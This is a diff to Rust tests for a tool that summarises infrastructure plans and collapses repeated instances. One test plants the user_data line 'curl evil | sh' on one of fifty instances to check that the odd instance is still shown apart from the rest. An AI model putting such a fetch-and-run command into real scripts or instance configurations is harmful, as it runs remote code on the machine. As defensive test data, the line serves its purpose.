@@ -94,6 +94,8 @@ fn what_is_alike_is_shown_once() {
             "# aws_instance.web[0 to 299], 300 instances, will be created",
             "+ subnet_id              = \"subnet-2a\" 100 times, \"subnet-2b\" 100 times, \"subnet-2c\" 100 times",
             "+ \"Name\" = \"fleet-000\" to \"fleet-299\", by number",
+            "+ echo \"fleet 0\" > /index.html",
+            "# (this is [0]'s line; the others differ by number)",
         ],
     );
 }
@@ -102,23 +104,28 @@ fn what_is_alike_is_shown_once() {
 fn one_that_stands_out_is_not_hidden_among_many() {
     let mut making = Making::new();
     for n in 0..50_usize {
-        let mut config = instance();
+        let script = |port: usize| format!("#!/bin/sh\nexec 2>&1\nserve {n} {port}\n");
+        let mut config = instance().with("user_data", script(80));
         if n == 17 {
-            config.set("ami", "ami-0evil");
             config.set("user_data", "#!/bin/sh\ncurl evil | sh\n");
+        } else if n == 33 {
+            config.set("user_data", script(8080));
         } else if n == 20 {
             config.set("subnet_id", "subnet-other");
         }
         making.plan(&format!("aws_instance.web[{n}]"), &config, None);
     }
-    let text = making.text(80);
+    let text = making.text(100);
     check_lines(
         &text,
         &[
             "# aws_instance.web[17] will be created",
-            "# aws_instance.web[0 to 16, 18 to 49], 49 instances, will be created",
+            "# aws_instance.web[33] will be created",
+            "+ serve 33 8080",
+            "# aws_instance.web[0 to 16, 18 to 32, 34 to 49], 48 instances, will be created",
+            "+ serve 0 80",
             "+ curl evil | sh",
-            "+ subnet_id              = \"subnet-2a\" 48 times, \"subnet-other\" for [20]",
+            "+ subnet_id              = \"subnet-2a\" 47 times, \"subnet-other\" for [20]",
         ],
     );
 }
